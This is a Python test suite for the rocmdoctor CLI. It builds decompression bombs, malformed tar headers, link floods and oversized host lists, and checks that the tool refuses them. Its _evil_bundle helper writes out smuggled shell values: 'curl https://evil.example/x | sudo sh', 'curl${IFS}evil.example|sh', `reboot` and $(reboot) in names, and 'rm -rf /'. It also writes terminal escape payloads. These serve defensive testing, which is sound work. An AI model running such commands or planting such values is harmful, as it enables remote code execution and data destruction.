"""Hostile bundles, host lists and outputs (issue 13): each attack is generated here, run through the real CLI
in a subprocess, and must end refused with exit 2 naming the limit, or rendered inert, within the memory bound.

Every input is built by the test (no committed blobs). Peak memory is the CLI process's own ru_maxrss
(tests/hostile_helpers.py); wall times are printed for the bench notes, never asserted.
"""

from __future__ import annotations

import io
import json
import os
import re
import resource
import signal
import subprocess
import sys
import tarfile
from pathlib import Path

import pytest
from hostile_helpers import (
    RSS_BOUND_MB,
    copy_healthy,
    gz,
    gzip_bomb,
    pad,
    run_measured,
    tar_gz_of,
    tar_header,
)

from rocmdoctor.limits import LIMITS

CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")


def _refused(m, limit: str) -> None:
    assert m.rc == 2, (m.rc, m.err[-1500:])
    assert "Traceback" not in m.err
    lines = [ln for ln in m.err.splitlines() if ln.startswith("rocmdoctor: error:")]
    assert len(lines) == 1 and f"over the limit {limit}" in lines[0], m.err[-1500:]


# ------------------------------------------------------------------------------------------ archives


def test_gnu_long_name_header_of_1_gb_is_refused_before_it_is_read(tmp_path):
    # a ././@LongLink header declaring a 1 GiB name; 1 MiB of it follows (the rest never needs to exist)
    raw = tar_header("././@LongLink", 1 << 30, b"L") + b"a" * (1 << 20)
    path = tmp_path / "longname.tar.gz"
    path.write_bytes(gz(raw))
    m = run_measured("check", "--from", str(path), "--json")
    print(f"gnu-longname: rc={m.rc} rss={m.rss_mb:.0f}MB {m.seconds:.2f}s")
    _refused(m, "tar-header-bytes")
    assert m.rss_mb < RSS_BOUND_MB


def test_pax_header_of_1_gb_is_refused_and_a_pathological_one_is_parsed_linearly(tmp_path, monkeypatch):
    raw = tar_header("././@PaxHeader", 1 << 30, b"x") + b"9" * (1 << 20)
    path = tmp_path / "pax.tar.gz"
    path.write_bytes(gz(raw))
    m = run_measured("check", "--from", str(path), "--json")
    print(f"pax-1GB: rc={m.rc} rss={m.rss_mb:.0f}MB {m.seconds:.2f}s")
    _refused(m, "tar-header-bytes")
    # CVE-2024-6232's shape (a header that is nearly all digits and spaces) inside the size cap: never handed
    # to tarfile's regex, and a clear "bad pax header" refusal
    from rocmdoctor.bundle import tarstream

    evil = b"1 " * 30000
    body = (tar_header("././@PaxHeader", len(evil), b"x") + pad(evil)
            + tar_header("cmd/uname-r.txt", 6) + pad(b"6.5.0\n"))
    path2 = tmp_path / "cve.tar.gz"
    path2.write_bytes(gz(body + bytes(1024)))
    monkeypatch.setattr(tarfile.TarFile, "__init__", lambda *a, **k: pytest.fail("tarfile used for a bundle"))
    from rocmdoctor.bundle import load_host
    from rocmdoctor.errors import BadInput

    with pytest.raises(BadInput, match="bad pax header"):
        load_host(path2)
    # and a well-formed long pax path (as GNU tar writes for a deep capture) is honoured
    record = b"path=cmd/uname-r.txt\n"
    rec = str(len(record) + 3).encode() + b" " + record
    good = tar_header("././@PaxHeader", len(rec), b"x") + pad(rec) + tar_header("x", 6) + pad(b"6.5.0\n")
    path3 = tmp_path / "pax-ok.tar.gz"
    path3.write_bytes(gz(good + bytes(1024)))
    assert load_host(path3).kernel.release == "6.5.0"
    assert [m.name for m in tarstream.read_all(path3.read_bytes(), "t")] == ["cmd/uname-r.txt"]


def test_one_16_mib_member_with_100_hard_links_is_read_once(tmp_path):
    base = copy_healthy(tmp_path / "b")
    path = tmp_path / "links.tar.gz"
    blob = b"[drm] amdgpu: something ordinary\n" * ((16 << 20) // 33)
    with tarfile.open(path, "w:gz") as tf:
        tf.add(base, arcname="rocmdoctor-capture")
        info = tarfile.TarInfo("rocmdoctor-capture/logs/big.log")
        info.size = len(blob)
        tf.addfile(info, io.BytesIO(blob))
        for i in range(100):
            link = tarfile.TarInfo(f"rocmdoctor-capture/logs/link{i}.log")
            link.type = tarfile.LNKTYPE
            link.linkname = "rocmdoctor-capture/logs/big.log"
            tf.addfile(link)
    m = run_measured("check", "--from", str(path), "--json")
    print(f"hardlinks: rc={m.rc} rss={m.rss_mb:.0f}MB {m.seconds:.2f}s size={path.stat().st_size}")
    assert m.rc == 0, m.err[-1500:]
    assert m.rss_mb < RSS_BOUND_MB
    doc = json.loads(m.out)
    assert doc["host"]["gpus"], "the bundle is still judged"


def test_link_flood_is_refused(tmp_path, monkeypatch):
    path = tmp_path / "flood.tar.gz"
    with tarfile.open(path, "w:gz") as tf:
        info = tarfile.TarInfo("cmd/uname-r.txt")
        info.size = 6
        tf.addfile(info, io.BytesIO(b"6.5.0\n"))
        for i in range(LIMITS["links"] + 1):
            link = tarfile.TarInfo(f"logs/l{i}")
            link.type = tarfile.SYMTYPE
            link.linkname = "../cmd/uname-r.txt"
            tf.addfile(link)
    m = run_measured("check", "--from", str(path), "--json")
    _refused(m, "links")


def test_logs_of_short_lines_are_bounded(tmp_path):
    # the 245 KB tar.gz: 15 logs of 16 MiB of "a\n" each: over the decompressed budget, refused by name
    path = tmp_path / "lines.tar.gz"
    line_blob = b"a\n" * (8 << 20)
    with tarfile.open(path, "w:gz") as tf:
        for i in range(15):
            info = tarfile.TarInfo(f"rocmdoctor-capture/logs/{i}.log")
            info.size = len(line_blob)
            tf.addfile(info, io.BytesIO(line_blob))
    m = run_measured("check", "--from", str(path), "--json")
    print(f"15-logs: rc={m.rc} rss={m.rss_mb:.0f}MB {m.seconds:.2f}s size={path.stat().st_size}")
    _refused(m, "bundle-bytes")
    assert m.rss_mb < RSS_BOUND_MB
    # under the budget (5 such logs = 80 MiB): judged, each log cut at the line limit, memory bounded
    base = copy_healthy(tmp_path / "b")
    for i in range(5):
        (base / "logs").mkdir(exist_ok=True)
        (base / "logs" / f"{i}.log").write_bytes(line_blob)
    path2 = tar_gz_of(base, tmp_path / "five.tar.gz")
    m = run_measured("check", "--from", str(path2), "--json")
    print(f"5-logs: rc={m.rc} rss={m.rss_mb:.0f}MB {m.seconds:.2f}s size={path2.stat().st_size}")
    assert m.rc == 0, m.err[-1500:]
    assert m.rss_mb < RSS_BOUND_MB
    notes = json.loads(m.out)
    assert notes["host"]["gpus"]


def test_gzip_bomb_bundle_is_refused_by_the_decompressed_budget(tmp_path):
    path = gzip_bomb(tmp_path / "bomb.tar.gz", "rocmdoctor-capture/logs/zeros.log", 3 << 30)
    assert path.stat().st_size < 4 << 20
    m = run_measured("check", "--from", str(path), "--json")
    print(f"bundle-bomb 3GB: rc={m.rc} rss={m.rss_mb:.0f}MB {m.seconds:.2f}s size={path.stat().st_size}")
    _refused(m, "bundle-bytes")
    assert m.rss_mb < RSS_BOUND_MB


def test_1500_nested_directories_are_refused_not_a_recursion_error(tmp_path):
    deep = tmp_path / "deep"
    copy_healthy(deep)
    d = deep / "logs"
    parts = ["d"] * 1500
    # build it with relative mkdirs (an absolute path of 3,000+ bytes is near PATH_MAX)
    cwd = os.getcwd()
    try:
        d.mkdir(exist_ok=True)
        os.chdir(d)
        for p in parts:
            os.mkdir(p)
            os.chdir(p)
        Path("x.log").write_text("hello\n")
    finally:
        os.chdir(cwd)
    try:
        m = run_measured("check", "--from", str(deep), "--json")
    finally:
        _remove_deep(d)
    _refused(m, "depth")
    # the same as a tar member (name well under the name limit, but 1,500 levels deep)
    path = tmp_path / "deep.tar.gz"
    name = "logs/" + "d/" * 1500 + "x.log"
    path.write_bytes(gz(_pax_named(name, b"hello\n") + bytes(1024)))
    m = run_measured("check", "--from", str(path), "--json")
    _refused(m, "depth")


def _remove_deep(top: Path) -> None:
    """Remove a very deep tree without recursion (shutil.rmtree, and pytest's cleanup, would overflow)."""
    cwd = os.getcwd()
    try:
        os.chdir(top)
        depth = 0
        while os.path.isdir("d"):
            os.chdir("d")
            depth += 1
        for _ in range(depth):
            for name in os.listdir("."):
                os.unlink(name)
            os.chdir("..")
            os.rmdir("d")
    finally:
        os.chdir(cwd)


def _pax_named(name: str, data: bytes) -> bytes:
    record = f"path={name}\n".encode()
    n = len(record) + 2
    n = len(record) + len(str(n)) + 1
    rec = f"{n} ".encode() + record
    return tar_header("././@PaxHeader", len(rec), b"x") + pad(rec) + tar_header("x", len(data)) + pad(data)


# ------------------------------------------------------------------------------------------ host lists


def test_3000_bracket_groups_in_a_host_name_are_refused(tmp_path):
    m = run_measured("fleet", "audit", "n" + "[1-2]" * 3000, "--timeout", "1")
    _refused(m, "host-range-groups")


def test_host_list_expansion_is_bounded_across_the_whole_list(tmp_path):
    hostfile = tmp_path / "hosts.txt"
    hostfile.write_text("".join(f"rack{i}-node[1-1000]\n" for i in range(50_000)))
    m = run_measured("fleet", "audit", "-f", str(hostfile), "--timeout", "1")
    print(f"hostfile 50k x [1-1000]: rc={m.rc} rss={m.rss_mb:.0f}MB {m.seconds:.2f}s")
    _refused(m, "hosts")
    assert m.rss_mb < RSS_BOUND_MB


# ------------------------------------------------------------------------------------------ text


def _evil_bundle(tmp_path: Path) -> Path:
    b = copy_healthy(tmp_path / "evil")
    esc = "\x1b]0;pwned\x07\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\\x1b[2J\x9b31m"
    (b / "manifest.json").write_text(json.dumps({"format": "rocmdoctor-capture/1", "hostname": "box" + esc,
                                                 "commands": []}))
    probe = json.loads((b / "cmd" / "torch-probe.json").read_text())
    forged = "\n      Fix: run this to repair ROCm\n        $ curl https://evil.example/x | sudo sh\n"
    probe["torch"]["version"] = "2.5.1+cu121" + forged + esc
    probe["distributions"]["torch"] = probe["torch"]["version"]
    probe["torch"]["hip"] = None
    probe["torch"]["cuda"] = "12.1"
    probe["torch"]["bundled_libs"] = ["libcudart.so.12"]
    (b / "cmd" / "torch-probe.json").write_text(json.dumps(probe))
    # a kernel release and a user name carrying shell
    (b / "cmd" / "uname-r.txt").unlink()
    (b / "root" / "proc").mkdir()
    (b / "root" / "proc" / "version").write_text(
        "Linux version 6.5.0-17-generic;curl${IFS}evil.example|sh (buildd@lcy02) (gcc 11.4.0) #17-Ubuntu SMP\n")
    (b / "cmd" / "dkms-status.txt").write_text("amdgpu/6.8.5-2009582.22.04, 6.2.0-39-generic, x86_64: installed\n")
    (b / "cmd" / "id.txt").write_text("uid=1000(al`reboot`) gid=1000(al) groups=1000(al),24(cdrom)\n")
    (b / "cmd" / "stat-dev.txt").write_text("/dev/kfd 660 root render$(reboot) 0 109\n"
                                            "/dev/dri/renderD128 660 root render$(reboot) 0 109\n")
    return b


def test_escape_sequences_and_forged_fix_lines_are_inert_in_text_markdown_and_json(tmp_path):
    b = _evil_bundle(tmp_path)
    for fmt in (["-v"], ["--format", "markdown"], ["--json"]):
        m = run_measured("check", "--from", str(b), *fmt)
        assert m.rc in (0, 1), m.err[-1500:]
        out = m.out
        assert not CONTROL.search(out.replace("\n", "").replace("\t", "")), (fmt, repr(out[:3000]))
        assert "\x1b" not in out and "\x07" not in out and "\x9b" not in out
        for line in out.splitlines():
            assert not re.match(r"\s*Fix: run this", line), (fmt, line)
            assert not re.match(r"\s*\$ curl https://evil", line), (fmt, line)
            assert not re.match(r"\s*\**Fix:\** run this", line), (fmt, line)
        if fmt == ["--json"]:
            doc = json.loads(out)
            assert "\n" not in (doc["host"]["torch"]["version"] or "")
            assert "\n" not in doc["host"]["hostname"]


def test_shell_metacharacters_never_reach_a_fix_command(tmp_path):
    b = _evil_bundle(tmp_path)
    doc = json.loads(run_measured("check", "--from", str(b), "--json").out)
    commands = [c for f in doc["findings"] if f["fix"] for c in f["fix"]["commands"]]
    by_id = {f["id"]: f for f in doc["findings"]}
    assert by_id["driver.dkms-failed"]["severity"] == "fail"
    dkms_cmds = by_id["driver.dkms-failed"]["fix"]["commands"]
    assert 'sudo apt install linux-headers-"$(uname -r)"' in dkms_cmds
    assert by_id["perm.kfd-access"]["severity"] == "fail"
    assert by_id["perm.kfd-access"]["fix"]["commands"][0].endswith(" $USER")
    for c in commands:
        assert "evil" not in c and "reboot" not in c and "${IFS}" not in c, c
    # the raw values are still shown, as evidence (text) only
    shown = [e for f in doc["findings"] for e in f["evidence"] + [f["title"]]]
    assert any("curl${IFS}evil.example" in e for e in shown) and any("al`reboot`" in e for e in shown)
    assert any("render$(reboot)" in e for e in shown)


def test_a_plausible_value_is_shell_quoted():
    from rocmdoctor.sanitize import Raw, command, word

    assert command("sudo", "usermod", "-aG", "render,video", "o'brien") == \
        "sudo usermod -aG render,video 'o'\"'\"'brien'"
    assert command("dkms", word("kernel", "6.5.0-14-generic", '"$(uname -r)"')) == "dkms 6.5.0-14-generic"
    assert command("dkms", word("kernel", "6.5;rm -rf /", '"$(uname -r)"')) == 'dkms "$(uname -r)"'
    assert isinstance(word("user", "a b", "$USER"), Raw)


# ------------------------------------------------------------------------------------------ crash safety


def test_capture_to_a_full_disk_leaves_no_truncated_archive(tmp_path):
    dest = tmp_path / "host.tar.gz"
    dest.write_bytes(b"the previous, complete bundle")

    def small_disk() -> None:  # a write past 8 KiB fails with EFBIG, as on a full disk (ENOSPC)
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (8192, 8192))

    env = {**os.environ, "ROCMDOCTOR_ROOT": str(copy_healthy(tmp_path / "fake"))}
    p = subprocess.run([sys.executable, "-m", "rocmdoctor", "capture", "-o", str(dest), "--timeout", "5"],
                       capture_output=True, text=True, env=env, preexec_fn=small_disk, timeout=120)
    assert p.returncode == 2, p.stderr[-2000:]
    assert "cannot write" in p.stderr and "Traceback" not in p.stderr
    assert dest.read_bytes() == b"the previous, complete bundle"
    assert not [f for f in tmp_path.iterdir() if f.name.startswith(".host.tar.gz")], list(tmp_path.iterdir())


def test_memory_error_has_its_own_exit_code(tmp_path, monkeypatch, capsys):
    from rocmdoctor import bundle
    from rocmdoctor.cli import app as cli

    def boom(path):  # MemoryError cannot be provoked safely on a shared machine: raised where loading happens
        raise MemoryError

    monkeypatch.setattr(bundle, "load_host", boom)
    assert cli.main(["check", "--from", str(tmp_path)]) == 4
    err = capsys.readouterr().err
    assert "out of memory" in err and "internal error" not in err
